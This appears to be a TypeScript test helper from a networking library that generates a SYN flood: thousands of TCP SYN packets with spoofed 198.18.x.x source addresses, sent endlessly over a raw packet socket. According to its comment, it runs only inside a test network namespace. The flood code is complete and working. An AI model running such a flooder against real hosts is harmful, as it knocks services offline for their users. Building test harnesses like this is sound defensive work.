/**
 * A SYN flood: first packets of TCP connections from addresses that do not exist, as fast as one
 * thread makes them. In a namespace of a test, and nowhere else.
 *
 *     bun test/helpers/fire/syn-flood.ts DEVICE MAC ADDRESS PORT
 *
 * MAC is that of the host with the address. Prints "flooding", and on SIGTERM how many were sent.
 *
 * @module
 */
import { AF_PACKET } from "../../../ffi/constants/interface.ts";
import { SOCK_RAW } from "../../../ffi/constants/socket.ts";
import { encodeLinkSockaddr, sendPacket } from "../../../ffi/packet.ts";
import { openSocket } from "../../../ffi/socket.ts";
import { openRouteSocket } from "../../../src/netlink/route/index.ts";
import { ipPacket } from "../ip-packet.ts";

/** Made beforehand; the loop only sends. */
const packetCount = 20_000;
const burst = 200;

const [device = "", mac = "", to = "", port = ""] = process.argv.slice(2);
using routes = openRouteSocket();
const link = routes.listLinks().find(({ name }) => name === device)!;
const macBytes = (text: string): Uint8Array => Uint8Array.fromHex(text.replaceAll(":", ""));
const packets = Array.from({ length: packetCount }, (_, number) => {
  const from = `198.18.${(number >> 8) & 255}.${number & 255}`;
  const packet = ipPacket({ from, to, fromPort: 1024 + number, toPort: Number(port) });
  packet.set(macBytes(mac), 0);
  // A bridge drops what comes from nobody.
  packet.set(macBytes(link.mac), 6);
  return packet;
});
const fd = openSocket(AF_PACKET, SOCK_RAW, 0);
const place = encodeLinkSockaddr({ etherType: 0, index: link.index });
let sent = 0;
process.on("SIGTERM", () => {
  process.stdout.write(`sent ${sent}\n`);
  process.exit(0);
});
process.stdout.write("flooding\n");
for (;;) {
  for (let count = 0; count < burst; count++) sendPacket(fd, packets[sent++ % packetCount]!, place);
  // Lets the signal in.
  await Bun.sleep(1);
}
